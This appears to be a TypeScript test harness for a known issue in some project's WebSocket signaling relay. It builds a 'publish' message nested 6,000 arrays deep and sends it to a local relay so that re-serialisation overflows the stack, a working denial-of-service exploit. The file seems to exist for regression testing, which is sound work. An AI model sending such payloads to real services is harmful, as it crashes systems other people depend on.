/**
 * Issue 9, attack 1: a signaling `publish` whose payload is nested `depth` arrays deep (6,000 ≈
 * 12 KB). A relay that re-serialises the parsed tree (`JSON.stringify`) overflows the stack.
 */
import { WebSocket } from 'ws';

export function deepPublish(topic: string, depth = 6000): string {
  return `{"type":"publish","topic":${JSON.stringify(topic)},"data":${'['.repeat(depth)}${']'.repeat(depth)}}`;
}

export interface DeepJsonResult {
  /** How the attacker's own signaling socket ended (undefined: still open when we gave up waiting). */
  closeCode: number | undefined;
}

/**
 * Opens /signal with a ticket (taken from a participant's address on the Wi-Fi, or from a room of
 * one's own), subscribes to `topic` and publishes the deep message `times` times.
 */
export async function deepJsonAttack(
  port: number,
  ticket: string,
  topic: string,
  options: { depth?: number; times?: number; localAddress?: string; settleMs?: number } = {},
): Promise<DeepJsonResult> {
  const ws = new WebSocket(`ws://127.0.0.1:${port}/signal?ticket=${encodeURIComponent(ticket)}`, {
    perMessageDeflate: false,
    localAddress: options.localAddress ?? '127.0.0.2',
  });
  ws.on('error', () => undefined);
  let closeCode: number | undefined;
  const closed = new Promise<void>((resolve) =>
    ws.once('close', (code) => {
      closeCode = code;
      resolve();
    }),
  );
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('unexpected-response', (_req, res) => reject(new Error(`signaling refused: HTTP ${res.statusCode}`)));
  });
  ws.send(JSON.stringify({ type: 'subscribe', topics: [topic] }));
  const message = deepPublish(topic, options.depth);
  for (let i = 0; i < (options.times ?? 1); i++) ws.send(message);
  // Long enough for the host to process (or choke on) every message.
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, options.settleMs ?? 300))]);
  ws.terminate();
  return { closeCode };
}
